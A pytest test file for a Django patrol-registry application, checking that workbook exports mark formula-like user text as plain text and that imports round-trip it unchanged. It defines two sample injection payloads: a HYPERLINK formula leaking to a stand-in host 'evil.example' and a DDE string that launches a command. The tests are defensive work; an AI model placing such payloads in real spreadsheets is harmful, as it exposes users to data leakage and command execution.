"""No workbook the product writes turns user text into a formula (§3, §6, §9), and the registry import
keeps such text as plain text, so it goes round export → import → export unchanged."""

from __future__ import annotations

import datetime as dt
import io
import zoneinfo

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from assessment import services as assessment_services
from assessment.models import Tier
from config.cells import cell_text, safe_cell
from patrols.models import Establishment
from tests.factories import CommunityFactory, EstablishmentFactory

pytestmark = pytest.mark.django_db

SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
LINK = '=HYPERLINK("http://evil.example/?leak","click")'
DDE = "=cmd|' /C calc'!A0"


def formulas(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_is_marked_as_text_and_read_back(start):
    value = f"{start}1+1"
    assert safe_cell(value) == f"'{value}"
    assert cell_text(safe_cell(value)) == value
    assert safe_cell("张记面馆") == "张记面馆" and safe_cell(-5) == -5


def test_registry_export_writes_names_and_addresses_as_text(client, district_officer_a, community_a):
    EstablishmentFactory(community=community_a, name=LINK, address=DDE, legal_representative="@SUM(A1)")
    client.force_login(district_officer_a)
    content = client.get(reverse("patrols:establishment_export")).content
    assert formulas(content) == []
    assert {f"'{LINK}", f"'{DDE}", "'@SUM(A1)"} <= texts(content)


def test_import_stores_a_formula_as_its_text_and_exports_it_as_text(client, inspector_a):
    book = openpyxl.Workbook()
    book.active.append(["名称", "地址", "许可证号", "社区编码", "类别"])
    book.active.append([LINK, DDE, "JY1001", inspector_a.org_unit.code, "餐饮服务"])  # live formulas
    buffer = io.BytesIO()
    book.save(buffer)
    client.force_login(inspector_a)
    upload = SimpleUploadedFile("shops.xlsx", buffer.getvalue())
    assert client.post(reverse("patrols:establishment_import"), {"file": upload}).status_code == 302
    shop = Establishment.objects.get()
    assert (shop.name, shop.address) == (LINK, DDE)

    exported = client.get(reverse("patrols:establishment_export")).content
    assert formulas(exported) == []
    # The exported file imported again changes nothing: the text mark comes off on the way in.
    again = SimpleUploadedFile("again.xlsx", exported)
    assert client.post(reverse("patrols:establishment_import"), {"file": again}).status_code == 302
    shop.refresh_from_db()
    assert (shop.name, shop.address) == (LINK, DDE)
    assert Establishment.objects.count() == 1


def test_monthly_workbook_writes_unit_names_as_text(clock, district_a, district_officer_a, client):
    CommunityFactory(parent=district_a, name="+1-1", code="330101077")
    clock.set(dt.datetime(2026, 11, 7, 10, tzinfo=SHANGHAI))
    client.force_login(district_officer_a)
    response = client.get(reverse("reporting:export_xlsx", args=[district_a.pk, "2026-10"]))
    content = b"".join(response.streaming_content)
    assert formulas(content) == []
    assert "'+1-1" in texts(content)


def test_assessment_workbook_writes_the_assessors_notes_as_text(
    clock, community_a, inspector_a, district_officer_a, client
):
    clock.set(dt.datetime(2026, 12, 5, 10, tzinfo=SHANGHAI))
    assessment = assessment_services.assessment_start(
        user=district_officer_a, tier=Tier.COMMUNITY, assessee_unit=community_a
    )
    item = assessment.items.first()
    assessment_services.assessment_item_score(user=district_officer_a, item=item, score=None, note=LINK)
    client.force_login(district_officer_a)
    content = client.get(reverse("assessment:export_xlsx", args=[assessment.pk])).content
    assert formulas(content) == []
    assert any(LINK in text for text in texts(content))
